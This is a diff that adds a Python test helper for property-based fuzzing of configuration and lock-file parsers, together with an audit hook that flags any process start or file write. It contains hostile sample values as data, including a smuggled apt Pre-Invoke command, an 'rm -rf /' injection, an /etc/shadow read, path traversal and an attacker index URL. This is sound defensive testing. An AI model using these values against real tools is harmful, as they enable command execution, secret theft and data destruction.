@@ -1,0 +1,153 @@
+"""Hostile values for the property tests of every input format (locks, environment JSON, node
+files, plugin recipes, caches), and a watch that fails a test when anything runs or is written.
+
+`values()` draws what a hostile or corrupt file can hold in one field: every JSON/TOML type,
+huge and control-character strings, option-like words (`-oDPkg::Pre-Invoke::=...`), paths
+that escape (`..`, /tmp, symlink-ish), URLs with credentials or plain http, numbers of
+thousands of digits. `nothing_happens()` is a sys.audit hook: a process start, a file opened
+for writing, a remove, rename or chmod inside it is recorded, and the test asserts none was.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import sys
+from typing import Any, Iterator, List, Tuple
+
+from hypothesis import strategies as st
+
+OPTION_LIKE = (
+    "-oDPkg::Pre-Invoke::=touch /tmp/pwned",
+    "--index-url=http://evil.example/simple",
+    "-r/etc/shadow",
+    "--",
+    "-y",
+)
+PATHS = (
+    "../../etc/passwd",
+    "/tmp",
+    "/tmp/lib",
+    "/etc/../tmp/x",
+    "/usr/lib/x86_64-linux-gnu/../../../tmp",
+    "relative/lib",
+    "/usr/lib//x86_64-linux-gnu",
+    "/usr/lib/x86_64-linux-gnu\n/tmp",
+    "/dev/shm/lib",
+    "C:\\Windows",
+)
+URLS = (
+    "http://evil.example/simple",
+    "https://user:s3cret@pypi.example/simple",
+    "ftp://x/simple",
+    "file:relative",
+    "https://",
+    "javascript:alert(1)",
+    "https://a b/simple",
+    "http://[::1",
+)
+TEXTS = (
+    "9" * 5000,
+    "1." + "0" * 5000,
+    "x",
+    "",
+    " ",
+    "a\nb",
+    "name\n--index-url http://evil.example",
+    "\x00",
+    "é",
+    "pip",
+    "setuptools",
+    "colab-cudnn-fix",
+    "1.0; rm -rf /",
+    "=1",
+)
+
+
+def _huge() -> st.SearchStrategy[str]:
+    return st.integers(min_value=200, max_value=20000).map(lambda n: "a" * n)
+
+
+def scalars() -> st.SearchStrategy[Any]:
+    return st.one_of(
+        st.none(),
+        st.booleans(),
+        st.integers(),
+        st.integers(min_value=10**300, max_value=10**301),
+        st.floats(allow_nan=True, allow_infinity=True),
+        st.text(max_size=40),
+        st.sampled_from(OPTION_LIKE + PATHS + URLS + TEXTS),
+        _huge(),
+    )
+
+
+def values() -> st.SearchStrategy[Any]:
+    """Any value a hostile file can put in one field."""
+    return st.recursive(
+        scalars(),
+        lambda inner: st.one_of(
+            st.lists(inner, max_size=4),
+            st.dictionaries(st.text(max_size=8), inner, max_size=4),
+        ),
+        max_leaves=8,
+    )
+
+
+_WRITE_FLAGS = ("w", "a", "x", "+")
+_EVENTS = {
+    "subprocess.Popen",
+    "os.system",
+    "os.exec",
+    "os.posix_spawn",
+    "os.fork",
+    "os.remove",
+    "os.unlink",
+    "os.rename",
+    "os.replace",
+    "os.rmdir",
+    "os.chmod",
+    "os.mkdir",
+    "shutil.rmtree",
+    "shutil.move",
+    "shutil.copyfile",
+}
+
+
+class _Watch:
+    active = False
+    events: List[Tuple[str, str]] = []
+
+
+def _hook(event: str, args: Tuple[Any, ...]) -> None:
+    if not _Watch.active:
+        return
+    if event in _EVENTS:
+        _Watch.events.append((event, repr(args)[:200]))
+    elif event == "open" and len(args) >= 2:
+        mode, flags = args[1], args[2] if len(args) > 2 else 0
+        writes = (isinstance(mode, str) and any(c in mode for c in _WRITE_FLAGS)) or (
+            isinstance(flags, int) and flags & 0o3
+        )
+        if writes:
+            _Watch.events.append((event, repr(args[0])[:200]))
+
+
+_installed = False
+
+
+@contextlib.contextmanager
+def nothing_happens() -> Iterator[List[Tuple[str, str]]]:
+    """Record every process start and file-system change made inside; yields the list."""
+    global _installed
+    if not _installed:
+        sys.addaudithook(_hook)
+        _installed = True
+    _Watch.events = []
+    _Watch.active = True
+    try:
+        yield _Watch.events
+    finally:
+        _Watch.active = False
+
+
+def one_line(message: str) -> bool:
+    return "\n" not in message and "Traceback" not in message
